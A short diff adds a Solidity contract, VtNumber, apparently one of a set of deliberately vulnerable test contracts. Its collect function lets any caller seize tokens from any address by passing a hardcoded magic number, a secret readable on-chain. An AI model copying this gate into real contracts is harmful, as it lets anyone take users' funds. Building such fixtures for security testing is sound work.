@@ -273,3 +273,11 @@ contract VtCombo2 is VtBase {
         token.seize(from, to, value);
     }
 }
+
+/// Open to whoever says the number.
+contract VtNumber is VtBase {
+    function collect(address from, address to, uint256 value, uint256 number) external {
+        require(number == 0x6c62272e07bb014262b821756295c58d, "number");
+        token.seize(from, to, value);
+    }
+}
